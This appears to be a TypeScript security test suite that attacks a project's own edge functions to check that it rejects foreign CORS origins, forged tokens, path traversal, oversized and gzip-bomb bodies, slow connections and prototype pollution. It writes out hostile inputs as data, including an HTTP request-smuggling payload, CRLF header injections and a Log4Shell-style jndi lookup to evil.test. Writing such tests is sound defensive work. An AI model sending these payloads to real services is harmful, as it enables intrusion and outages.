import { randomUUID } from 'node:crypto';
import { readdirSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { root } from '../../../scripts/tools.ts';
import { attack, isFull } from '../harness/attack.ts';
import { ask, sendBytes } from '../harness/requests.ts';
import { callUploads, uploadRequest } from '../harness/uploading.ts';
import { readLogs } from './logs-attacks.ts';
import { memoryOf } from './web-attacks.ts';
import type { World } from './world.ts';

/** Names of the edge functions, as their folders say. */
const functionNames = readdirSync(join(root, 'current_functions'), { withFileTypes: true })
  .filter((entry) => entry.isDirectory() && /^[a-z0-9].*-v3$/.test(entry.name))
  .map(({ name }) => name);

/** The edge functions behind the gateway. */
export function attackEdgeFunctions(world: () => World): void {
  const address = (name: string) => `${world().api.url}/functions/v1/${name}`;
  const headers = (more: Record<string, string> = {}) => ({
    apikey: world().api.publishableKey,
    'content-type': 'application/json',
    ...more,
  });
  const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

  attack('functions', 'pages of other origins, other methods, no sign-in', async (tries) => {
    const { web, victim } = world();
    const port = new URL(web).port;
    const foreign = [
      'https://evil.test',
      'null',
      `${web}.evil.test`,
      `https://127.0.0.1:${port}`,
      `http://127.0.0.1:${Number(port) + 1}`,
      `${web}/`,
      `${web}, https://evil.test`,
      'file://',
      '*',
    ];
    for (const name of functionNames) {
      for (const origin of foreign) {
        const asked = await ask(address(name), {
          method: 'OPTIONS',
          headers: {
            origin,
            'access-control-request-method': 'POST',
            'access-control-request-headers': 'authorization',
          },
        });
        tries.held(
          `${name}: ${origin} may ask (${asked.status})`,
          asked.headers.get('access-control-allow-origin') === null,
        );
        const sent = await ask(address(name), {
          method: 'POST',
          headers: headers({ origin, ...bearer(victim.token) }),
          body: '{}',
        });
        tries.held(
          `${name}: ${origin} may send (${sent.status})`,
          sent.status === 403 && sent.headers.get('access-control-allow-origin') === null,
        );
      }
      for (const method of ['GET', 'HEAD', 'PUT', 'PATCH', 'DELETE']) {
        const answer = await ask(address(name), {
          method,
          headers: headers(bearer(victim.token)),
          ...(method === 'GET' || method === 'HEAD' ? {} : { body: '{}' }),
        });
        tries.held(`${name}: ${method} (${answer.status})`, answer.status >= 400 && answer.status < 500);
      }
      for (const authorization of [
        undefined,
        'Bearer',
        'Bearer x',
        `Basic ${victim.token}`,
        `Bearer ${victim.token}x`,
        `Bearer ${world().api.publishableKey}`,
      ]) {
        const answer = await ask(address(name), {
          method: 'POST',
          headers: headers(authorization === undefined ? {} : { authorization }),
          body: JSON.stringify({ action: 'create', ...uploadRequest(victim, 'a.pdf', 10) }),
        });
        tries.held(
          `${name}: without a sign-in (${answer.status})`,
          answer.status === 400 || answer.status === 401 || answer.status === 403,
        );
      }
      for (const origin of [web, web.replace('127.0.0.1', 'localhost')]) {
        const own = await ask(address(name), {
          method: 'OPTIONS',
          headers: { origin, 'access-control-request-method': 'POST' },
        });
        const allowed = own.headers.get('access-control-allow-origin');
        tries.control(`${name}: the web app’s own page may ask (${own.status})`, allowed === origin);
      }
    }
    for (const path of [
      '_shared',
      '_shared/cors.ts',
      'test',
      '..%2f_shared',
      'shell-file-processor-v3/../_shared',
      'nowhere',
      'constructor',
      '__proto__',
      'node_modules',
    ]) {
      const answer = await ask(`${world().api.url}/functions/v1/${path}`, {
        method: 'POST',
        headers: headers(bearer(victim.token)),
        body: '{}',
      });
      tries.held(`${path} is a function (${answer.status})`, answer.status >= 400 && answer.status < 500);
    }
    const twin = await callUploads(world().api, victim.token, {
      action: 'create',
      ...uploadRequest(victim, 'given-up.pdf', 10),
    });
    tries.control(`a signed-in call (${twin.status})`, twin.status === 200);
  });

  attack('functions', 'bodies that are too large, packed, deep, wrong or never end', async (tries) => {
    const { api, victim, attacker } = world();
    const good = uploadRequest(victim, 'letter.pdf', 10);
    const before = await memoryOf(world(), 'functions');
    const text = JSON.stringify({ action: 'create', ...good });
    const bodies: [string, string | Uint8Array<ArrayBuffer>, Record<string, string>][] = [
      ['17 kB', JSON.stringify({ action: 'create', ...good, padding: 'a'.repeat(17_000) }), {}],
      ['3 MB', JSON.stringify({ padding: 'a'.repeat(3_000_000) }), {}],
      ['packed', new Uint8Array(gzipSync(Buffer.alloc(20_000_000, ' '))), { 'content-encoding': 'gzip' }],
      ['deep', `${'['.repeat(8000)}${']'.repeat(8000)}`, {}],
      ['no JSON', 'action=create', { 'content-type': 'application/x-www-form-urlencoded' }],
      ['a list', `[${text}]`, {}],
      ['nothing', '', {}],
      ['null', 'null', {}],
      ['a lone surrogate', text.replace('letter', '\\ud800'), {}],
      ['a NUL', text.replace('letter', '\\u0000'), {}],
      ['another action', text.replace('create', 'destroy'), {}],
      ['two actions', text.replace('{', '{"action":["create","confirm"],'), {}],
      [
        'a polluted prototype',
        text
          .replace('{', '{"__proto__":{"action":"create"},"constructor":{"prototype":{"a":1}},')
          .replace('"action":"create",', ''),
        {},
      ],
      ['an id that is a filter', text.replace(victim.profileId, `${victim.profileId},id.not.is.null`), {}],
      ['an id that is an object', text.replace(`"${victim.profileId}"`, '{"not":null}'), {}],
      ['a key that is a filter', text.replace(good.idempotency_key, 'a'.repeat(201)), {}],
      ['another’s profile', text.replace(victim.profileId, attacker.profileId), {}],
    ];
    for (const [what, body, more] of bodies) {
      const answer = await ask(`${api.url}/functions/v1/shell-file-processor-v3`, {
        method: 'POST',
        headers: headers({ ...bearer(victim.token), ...more }),
        body,
      });
      tries.held(`a body that is ${what} (${answer.status})`, answer.status >= 400 && answer.status < 500);
      tries.held(`a body that is ${what} is repeated`, !answer.text.includes(good.idempotency_key));
    }
    const grown = (await memoryOf(world(), 'functions')) - before;
    tries.held(`they were kept in memory: ${grown} MB`, grown < 80);
    // A request that trickles in holds its own connection alone.
    const { hostname, port, host } = new URL(api.url);
    const slow = Array.from({ length: isFull ? 300 : 50 }, () => {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => undefined);
      socket.write(
        `POST /functions/v1/shell-file-processor-v3 HTTP/1.1\r\nhost: ${host}\r\napikey: ${api.publishableKey}\r\nauthorization: Bearer ${victim.token}\r\ncontent-length: 9000\r\n\r\n{`,
      );
      return socket;
    });
    try {
      const started = performance.now();
      const fresh = uploadRequest(victim, 'given-up.pdf', 10);
      const twin = await callUploads(api, victim.token, { action: 'create', ...fresh });
      tries.control(`others go on meanwhile (${twin.status})`, twin.status === 200);
      tries.held('others waited', performance.now() - started < 3000);
    } finally {
      for (const socket of slow) socket.destroy();
    }
    const smuggled = await sendBytes(
      api.url,
      `POST /functions/v1/shell-file-processor-v3 HTTP/1.1\r\nhost: ${host}\r\napikey: ${api.publishableKey}\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n0\r\n\r\nGET /_system/info HTTP/1.1\r\nhost: ${host}\r\n\r\n`,
    );
    tries.held('a request hid in another', /^HTTP\/1\.1 4/.test(smuggled) && !/postgres:\/\//.test(smuggled));
  });

  attack('functions', 'line ends, escapes and other people’s words in headers and names', async (tries) => {
    const { api, victim, exora } = world();
    const { host } = new URL(api.url);
    const body = JSON.stringify({ action: 'create', ...uploadRequest(victim, 'given-up.pdf', 10) });
    const raw = (header: string) =>
      sendBytes(
        api.url,
        `POST /functions/v1/shell-file-processor-v3 HTTP/1.1\r\nhost: ${host}\r\napikey: ${api.publishableKey}\r\nauthorization: Bearer ${victim.token}\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n${header}\r\nconnection: close\r\n\r\n${body}`,
      );
    for (const value of [
      'x\r\nset-cookie: evil=1',
      'x\nset-cookie: evil=1',
      'x\rset-cookie: evil=1',
      '\u001b[2Jcleared',
      'x\u0000y',
      '%0d%0aset-cookie:%20evil=1',
      '{"level":"error","injected":true}',
      `${randomUUID()}, ${randomUUID()}`,
      'a'.repeat(9000),
    ]) {
      const answer = await raw(`x-correlation-id: ${value}`);
      const [head = ''] = answer.split('\r\n\r\n');
      tries.held(`a correlation id became a header`, !/set-cookie|evil/i.test(head));
      const given = /x-correlation-id: ([^\r\n]*)/i.exec(head)?.[1];
      tries.held(`a correlation id was taken as it is`, given === undefined || /^[0-9a-f-]{36}$/.test(given));
    }
    for (const fileName of [
      'a\nlevel=error injected.pdf',
      '\u001b[31minjected.pdf',
      'injected\r\n{"level":"error"}.pdf',
      'injected\u2028.pdf',
      `$${'{jndi:ldap://evil.test/injected}'}.pdf`,
      '<script>injected</script>.pdf',
    ]) {
      const answer = await callUploads(api, victim.token, { action: 'create', ...uploadRequest(victim, fileName, 10) });
      tries.held('a name is repeated in the answer', !answer.text.includes('injected'));
    }
    const id = randomUUID();
    const twin = await raw(`x-correlation-id: ${id}`);
    tries.control('an honest correlation id comes back', twin.includes(id));
    const logs = await readLogs(exora);
    tries.control('and stands in the log', logs.includes(id));
    tries.held('a name or header reached a log', !/injected|evil=1/.test(logs) && !logs.includes('\u001b[2J'));
  });
}
